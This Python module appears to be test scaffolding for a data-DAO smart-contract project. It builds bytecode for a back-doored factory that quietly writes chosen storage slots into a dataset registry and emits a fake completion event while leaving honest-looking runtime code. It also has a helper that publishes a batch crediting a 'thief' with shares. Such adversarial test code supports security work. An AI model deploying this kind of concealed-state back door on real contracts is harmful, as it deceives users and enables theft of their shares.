"""A deployer's back door: creation code that does more than it should before it returns the honest code."""

from __future__ import annotations

from collections.abc import Mapping, Sequence
from itertools import accumulate
from typing import Any

import ape
import eth_abi
from eth_utils import keccak

from datadao.chain.abi import FACTORY, ORDER
from datadao.chain.events import topic
from datadao.crypto.merkle import MerkleTree, leaf_hashes
from datadao.messages.batch import Batch
from datadao.types import Dao, Leaf
from deployer.artifacts import runtime_code
from deployer.plan import Plan

_PROXY = bytes.fromhex("73365f5f37365f34f06012573d5f5f3e3d5ffd5b005f526014600cf3")
"""Creation code of OpenZeppelin's CREATE3 account."""
UNIT = 10**9


def push(value: int | bytes | str) -> bytes:
    """`PUSH32` of a number, a word or an address."""
    if isinstance(value, str):
        value = int(value, 16)
    return b"\x7f" + (value if isinstance(value, bytes) else value.to_bytes(32, "big"))


def storing(slots: Mapping[int, int]) -> bytes:
    """Code that writes these slots."""
    return b"".join(push(value) + push(slot) + b"\x55" for slot, value in slots.items())


def returning(runtime: bytes, body: bytes = b"", data: Sequence[bytes] = ()) -> bytes:
    """Creation code that runs `body`, with `data` in memory from 0 on, and leaves `runtime`."""
    blob = b"".join((*data, runtime))
    size, start = push(len(runtime)), push(sum(map(len, data)))
    tail = body + size + start + b"\xf3"
    length = 3 * 33 + 1 + len(tail)  # CODECOPY of the blob to 0
    return push(len(blob)) + push(length) + push(0) + b"\x39" + tail + blob


def hostile_factory(plan: Plan, models: bytes, registry: bytes, slots: Mapping[int, int]) -> bytes:
    """Creation code of the plan's factory that puts both registries in place, that of datasets with `slots` written,
    reports the DAO completed, and leaves a factory like any other."""
    creation = plan.creation(plan.deployer)
    fair, evil = returning(models), returning(registry, storing(slots))
    event = eth_abi.encode(["address"] * len(ORDER), [creation.system[key] for key, _ in ORDER])
    data = (_PROXY, fair, evil, event)
    _, fair_at, evil_at, event_at = accumulate((0, len(_PROXY), len(fair), len(evil)))
    body = b""
    for part, code, at in ((len(ORDER) - 2, fair, fair_at), (len(ORDER) - 1, evil, evil_at)):
        salt = keccak(creation.id + part.to_bytes(32, "big"))
        body += push(salt) + push(len(_PROXY)) + push(0) + push(0) + b"\xf5"  # CREATE2: the account
        # CALL: it creates the contract. The first four are lengths and places of answer and call, the fifth its value.
        body += push(0) + push(0) + push(len(code)) + push(at) + push(0) + b"\x85\x5a\xf1"
    who = bytes.fromhex(plan.deployer[2:]).rjust(32, b"\0")
    topics = push(who) + push(creation.id) + push(topic(FACTORY, "DataDAOCompleted"))
    body += topics + push(len(event)) + push(event_at) + b"\xa3"  # LOG3
    assert plan.factory is not None
    blueprints = storing(dict(enumerate(stored(plan.factory.address, range(16)))))
    return returning(runtime_code(FACTORY), body + blueprints, data)


def stored(address: str, slots: Sequence[int]) -> list[int]:
    """What a contract has in these slots."""
    provider = ape.networks.provider
    return [int.from_bytes(bytes(provider.get_storage(address, slot)), "big") for slot in slots]


def written(address: str, transactions: Sequence[str]) -> dict[int, int]:
    """What slots of a contract hold that these transactions wrote."""
    slots: set[int] = set()
    for transaction in transactions:
        options = {"tracer": "prestateTracer", "tracerConfig": {"diffMode": True}}
        diff = ape.networks.provider.make_request("debug_traceTransaction", [transaction, options])
        slots |= {int(slot, 16) for slot in diff["post"].get(address.lower(), {}).get("storage", {})}
    return dict(zip(sorted(slots), stored(address, sorted(slots)), strict=True))


def hidden(registry: Any, leases: str, attestors: Sequence[Any], thief: str, shares: int) -> tuple[Leaf, str]:
    """Publishes a batch of one leaf of the thief's, worth so many shares; the leaf and the transaction."""
    per_unit = registry.currentPolicy(1).sharesPerUnit
    leaf = Leaf(thief, keccak(text="fingerprint"), keccak(text="file"), keccak(text="envelope"),
                shares // per_unit, 10_000)  # fmt: skip
    dao = Dao(ape.networks.provider.chain_id, registry.address, leases)
    root = MerkleTree(leaf_hashes(dao, 1, 1, [leaf])).root
    now = ape.chain.pending_timestamp
    batch = Batch(1, 1, root, shares, 1, keccak(text="manifest"), 1, 1, now + 3600)
    signed = [ape.networks.provider.web3.eth.account._sign_hash(batch.digest(dao), account.private_key).signature
              for account in sorted(attestors, key=lambda a: a.address)]  # fmt: skip
    receipt = registry.publish(tuple(batch.__dict__.values()), signed, "", sender=attestors[0])
    return leaf, receipt.txn_hash
